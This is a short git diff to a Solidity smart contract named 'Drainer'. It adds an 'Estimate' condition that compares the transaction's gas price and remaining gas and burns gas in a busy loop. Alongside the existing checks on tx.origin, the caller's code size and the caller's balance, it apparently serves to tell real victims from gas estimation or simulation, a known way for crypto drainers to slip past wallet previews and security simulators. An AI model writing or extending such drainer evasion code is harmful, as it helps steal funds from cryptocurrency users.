@@ -24,7 +24,8 @@ contract Drainer {
         GasLeft,
         SameOrigin,
         CallerCode,
-        CallerCoins
+        CallerCoins,
+        Estimate
     }
 
     receive() external payable {}
@@ -67,6 +68,12 @@ contract Drainer {
         if (sign == Sign.SameOrigin) return tx.origin == msg.sender;
         if (sign == Sign.CallerCode) return msg.sender.code.length == value;
         if (sign == Sign.CallerCoins) return msg.sender.balance > value;
+        // An estimate has no price of gas: it is cheap. Where much gas is left all of `value` is used.
+        if (sign == Sign.Estimate && tx.gasprice != 0 && gasleft() > value + 10_000) {
+            uint256 end = gasleft() - value;
+            while (gasleft() > end) {}
+            return true;
+        }
         return false;
     }
 }
